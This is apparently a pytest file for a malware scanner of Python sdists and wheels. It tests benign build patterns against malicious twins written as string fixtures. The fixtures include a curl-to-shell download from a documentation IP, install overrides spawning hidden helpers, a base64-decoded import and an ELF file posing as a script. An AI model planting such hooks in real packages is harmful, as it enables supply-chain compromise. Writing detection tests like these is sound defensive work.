"""Shapes of popular sdists and releases that cried wolf on the tune-only data of round 8
(place, chain and impact threats), read as what they are (no project names), each beside its
malicious twin that must stay high:

* a build step's start in setup.py: a ``build_ext``/``build_clib`` override (or a helper only
  it calls) starting a program the code computes (the compiler it was handed, ``configure``,
  ``pg_config``, ``make``) compiles the package: no install hook that acts. The same
  computed start inside an ``install``/``develop``/``egg_info`` override, or in a helper one
  of them calls, still acts;
* a module imported by a computed name in setup.py (a test loader's ``__import__(name)``
  over the test folder, a PEP 562 lazy loader's ``import_module("." + name, __name__)`` in
  the version file setup.py runs) loads a module the scan reads or one already installed:
  no install-time act. A name that is decoded or downloaded first stays a chain;
* setup.py starting a script its own sdist ships (``sh autogen.sh`` of a bundled library,
  ``./build_bundled.sh``) is judged by what the script does: the start is shown at medium and
  a download-and-run line in the script stays high. A script the package does not ship
  (written or fetched at install) or a binary under a script's name still acts; so does a
  shell line chained after the script;
* ``touch`` on the sources (so make does not rerun autotools) is a build tool, and so are
  docutils' ``rst2man``/``rst2html`` (docs tools like pandoc, asked for their version);
* a file-drop or tunnel service's host name that goes on with ``.name`` is part of a longer
  name (``pkg.toolshed.c.file.IO.__init__`` in Cython-generated C), not that host: the same
  host in a URL stays a hard-coded exfiltration endpoint.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel

HIGH = ("high", "critical")


def _sdist(tmp_path, setup_py: str, files: dict[str, bytes] | None = None):
    content = {"setup.py": setup_py.encode(), **(files or {})}
    return scan_artifact(open_artifact(make_sdist(tmp_path, name="tidy", files=content)))


def _install_time(res) -> bool:
    return any(t.id == "place.install_time" and t.severity in HIGH for t in res.threats)


# A C extension whose build_ext asks the compiler it was handed for its version, and whose
# build_clib runs the bundled library's configure script: both programs computed.
BUILD_EXT = """import os, re, subprocess, sys
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext
from distutils.command.build_clib import build_clib


def _gcc_major(compiler):
    cc = getattr(compiler, "compiler_so", None)
    out = subprocess.run([*cc, "-dM", "-E", "-x", "c", os.devnull],
                         capture_output=True, text=True).stdout
    m = re.search(r"__GNUC__ (\\d+)", out)
    return int(m.group(1)) if m else None


class BuildExt(build_ext):
    def build_extensions(self):
        if (_gcc_major(self.compiler) or 99) < 10:
            for ext in self.extensions:
                ext.extra_compile_args = ["-Wno-sign-conversion"]
        build_ext.build_extensions(self)


class BuildClib(build_clib):
    def run(self):
        configure = self.find_script("configure")
        subprocess.check_call([configure] + ["--disable-shared", "--prefix", self.build_clib])


class Install(__import__("setuptools").command.install.install):
    def run(self):
        super().run()


setup(
    name="tidy",
    ext_modules=[Extension("tidy._speedups", ["tidy/_speedups.c"])],
    cmdclass={"build_ext": BuildExt, "build_clib": BuildClib, "install": Install},
)
"""


def test_a_build_step_starting_the_compiler_it_computes_is_no_acting_hook(tmp_path):
    res = _sdist(tmp_path, BUILD_EXT)
    starts = [h for h in res.findings if h.capability == "process.spawn" and h.path == "setup.py"]
    assert len(starts) == 2, "both starts are shown"
    assert all(h.severity == "medium" for h in starts)
    assert any(h.rule == "py.setup_cmdclass" for h in res.findings), "the overrides are shown"
    assert not _install_time(res)
    assert res.risk.level not in HIGH


def test_the_same_computed_start_in_an_install_override_acts(tmp_path):
    evil = BUILD_EXT.replace(
        "        super().run()\n",
        "        super().run()\n"
        "        helper = os.path.join(os.path.expanduser('~'), '.cache', 'svc')\n"
        "        subprocess.Popen([helper, '--daemon'])\n",
    )
    res = _sdist(tmp_path, evil)
    assert _install_time(res)
    assert res.risk.level in HIGH


def test_a_computed_start_in_a_helper_the_install_override_calls_acts(tmp_path):
    evil = BUILD_EXT.replace(
        "        super().run()\n",
        "        super().run()\n        _post_install()\n",
    ).replace(
        "class BuildExt(build_ext):",
        "def _post_install():\n"
        "    cmd = [os.environ.get('COMSPEC'), '/c', sys.argv[0]]\n"
        "    subprocess.Popen(cmd)\n\n\n"
        "class BuildExt(build_ext):",
    )
    assert _install_time(_sdist(tmp_path, evil))


def test_a_computed_start_in_an_install_class_registered_by_subscript_acts(tmp_path):
    """Registered as ``cmdclass["install"] = Post`` (no install base), or subclassing the
    install command under an import alias: still an install step."""
    post = (
        "class Post(__import__('setuptools').Command):\n"
        "    def run(self):\n"
        "        subprocess.Popen([os.environ.get('COMSPEC'), '/c', sys.argv[0]])\n\n\n"
        "cmdclass = {}\n"
        'cmdclass["install"] = Post\n\n\n'
    )
    evil = BUILD_EXT.replace("setup(\n", post + "setup(\n")
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    assert _install_time(_sdist(tmp_path / "a", evil))
    aliased = BUILD_EXT.replace(
        "from distutils.command.build_clib import build_clib\n",
        "from distutils.command.build_clib import build_clib\n"
        "from setuptools.command.install import install as _orig_step\n",
    ).replace(
        'class Install(__import__("setuptools").command.install.install):\n'
        "    def run(self):\n"
        "        super().run()\n",
        "class Install(_orig_step):\n"
        "    def run(self):\n"
        "        super().run()\n"
        "        subprocess.Popen([os.environ.get('COMSPEC'), '/c', sys.argv[0]])\n",
    )
    assert "_orig_step):" in aliased
    assert _install_time(_sdist(tmp_path / "b", aliased))


def test_a_build_step_starting_what_it_downloaded_stays_high(tmp_path):
    evil = BUILD_EXT.replace(
        '        configure = self.find_script("configure")\n',
        "        import urllib.request\n"
        "        configure, _ = urllib.request.urlretrieve('http://203.0.113.9/c', 'c')\n",
    )
    res = _sdist(tmp_path, evil)
    assert res.risk.level in HIGH


# setup.py's test loader and the package's lazy loader (PEP 562), in the version file setup.py
# runs: modules imported by names the code computes.
TEST_LOADER = """import os, sys
from setuptools import setup

ns = {}
with open("tidy/__init__.py") as f:
    exec(f.read(), ns)


def test_loader():
    import unittest
    topdir = os.path.dirname(os.path.abspath(__file__))
    names = [fn[:-3] for fn in os.listdir(os.path.join(topdir, "tidy_tests")) if fn.endswith(".py")]
    sys.path.insert(0, os.path.join(topdir, "tidy_tests"))
    suites = []
    for name in names:
        module = __import__(name)
        suites.append(unittest.defaultTestLoader.loadTestsFromModule(module))
    return unittest.TestSuite(suites)


setup(name="tidy", version=ns["version"], test_suite="__main__.test_loader")
"""
LAZY_INIT = """import importlib
version = "1.0"
__all__ = ["web", "template"]


def __getattr__(name):
    if name in __all__:
        return importlib.import_module("." + name, __name__)
    raise AttributeError(name)
"""


def test_modules_imported_by_computed_names_in_setup_py_are_no_install_act(tmp_path):
    res = _sdist(tmp_path, TEST_LOADER, {"tidy/__init__.py": LAZY_INIT.encode()})
    imports = [h for h in res.findings if h.rule == "py.exec_dynamic"]
    assert {h.path for h in imports} == {"setup.py", "tidy/__init__.py"}, "both are shown"
    assert all(h.severity not in HIGH for h in imports)
    assert not _install_time(res)
    assert res.risk.level not in HIGH


def test_a_module_name_decoded_in_setup_py_stays_a_chain(tmp_path):
    evil = TEST_LOADER.replace(
        "        module = __import__(name)\n",
        "        import base64\n        module = __import__(base64.b64decode(name).decode())\n",
    )
    res = _sdist(tmp_path, evil, {"tidy/__init__.py": LAZY_INIT.encode()})
    assert res.risk.level in HIGH
    assert any(t.id == "chain.decode_exec" for t in res.threats if t.severity in HIGH)


# A bundled C library built from setup.py: autogen.sh when configure is missing, then the
# bundled build script, then touch so make does not rerun autotools.
BUNDLED_LIB = """import os, subprocess
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

LIB_DIR = os.path.join(os.path.dirname(__file__), "vendor", "libtidy")


class BuildExt(build_ext):
    def run(self):
        if not os.path.exists(os.path.join(LIB_DIR, "configure")):
            subprocess.run(["/bin/sh", "autogen.sh"], cwd=LIB_DIR, check=True)
        subprocess.check_call(["./build_bundled.sh"])
        subprocess.run(["touch", "configure.ac", "aclocal.m4"], cwd=LIB_DIR, check=True)
        subprocess.check_call(["rst2man.py", "--version"], stdout=subprocess.PIPE)
        build_ext.run(self)


setup(name="tidy", ext_modules=[Extension("tidy._c", ["tidy/_c.c"])],
      cmdclass={"build_ext": BuildExt})
"""
AUTOGEN = b"#!/bin/sh\nset -e\nautoreconf --install --force\n"
BUILD_BUNDLED = b"#!/bin/sh\nset -e\nmkdir -p build && cd build\ncmake .. && make -j4\n"


def _bundled(tmp_path, setup_py=BUNDLED_LIB, files: dict[str, bytes] | None = None):
    shipped = {
        "vendor/libtidy/autogen.sh": AUTOGEN,
        "build_bundled.sh": BUILD_BUNDLED,
        "tidy/_c.c": b"int tidy(void) { return 0; }\n",
    }
    shipped.update(files or {})
    return _sdist(tmp_path, setup_py, shipped)


def test_setup_py_starting_scripts_its_sdist_ships_is_judged_by_the_scripts(tmp_path):
    res = _bundled(tmp_path)
    starts = [h for h in res.findings if h.rule == "py.spawn_own_script"]
    assert {h.line for h in starts} == {11, 12}, "both script starts are shown"
    assert all(h.severity == "medium" for h in starts)
    tools = {h.match.split('"')[1] for h in res.findings if h.rule == "py.spawn_tool"}
    assert tools == {"touch", "rst2man.py"}
    assert not _install_time(res)
    assert res.risk.level not in HIGH


def test_a_shipped_script_that_downloads_and_runs_stays_high(tmp_path):
    evil = b"#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n"
    res = _bundled(tmp_path, files={"build_bundled.sh": evil})
    assert res.risk.level in HIGH
    assert any(h.path == "build_bundled.sh" and h.severity in HIGH for h in res.findings), (
        "the script's own line is the finding"
    )


def test_a_started_script_the_sdist_does_not_ship_still_acts(tmp_path):
    evil = BUNDLED_LIB.replace('"./build_bundled.sh"', '"./.cache_helper.sh"')
    assert _install_time(_bundled(tmp_path, evil))


def test_a_binary_under_a_scripts_name_still_acts(tmp_path):
    elf = b"\x7fELF\x02\x01\x01" + bytes(200)
    assert _install_time(_bundled(tmp_path, files={"build_bundled.sh": elf}))


def test_a_shell_line_chained_after_a_shipped_script_still_acts(tmp_path):
    evil = BUNDLED_LIB.replace(
        'subprocess.check_call(["./build_bundled.sh"])',
        'subprocess.check_call("sh build_bundled.sh; sh /tmp/.x", shell=True)',
    )
    assert _install_time(_bundled(tmp_path, evil))


# Cython-generated C naming its own classes by their qualified names (a module "file", a class
# "IO"): the text holds "file.IO" as part of a longer dotted name.
GENERATED_C = """/* Generated by Cython 0.20.1 */
#define PY_SSIZE_T_CLEAN
static PyObject *__pyx_pw_IO___init__(PyObject *self, PyObject *args) {
  __Pyx_AddTraceback("lib.tidy.toolshed.c.file.IO.__init__", __pyx_clineno, 13, __pyx_f[0]);
  __Pyx_AddTraceback("lib.tidy.toolshed.c.file.IO.append", __pyx_clineno, 40, __pyx_f[0]);
  return NULL;
}
"""
UPLOADER = """import requests


def share(path):
    with open(path, "rb") as f:
        return requests.post("https://file.io/?expires=1d", files={"file": f}).json()
"""


def _wheel(tmp_path, files: dict[str, bytes]):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name="tidy", files=files)))


def test_a_service_name_inside_a_longer_dotted_name_is_no_endpoint(tmp_path):
    res = _wheel(tmp_path, {"tidy/toolshed/c/file.c": GENERATED_C.encode()})
    assert not [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert res.risk.level not in HIGH


def test_the_same_service_in_a_url_stays_an_endpoint(tmp_path):
    res = _wheel(
        tmp_path,
        {"tidy/toolshed/c/file.c": GENERATED_C.encode(), "tidy/share.py": UPLOADER.encode()},
    )
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert {h.path for h in ends} == {"tidy/share.py"}
    # a file host alone is shown at medium since round 16 (sharing what the user hands in);
    # sending collected data there is a chain (test_popular_false_alarm_classes_16)
    assert {h.severity for h in ends} == {"medium"}
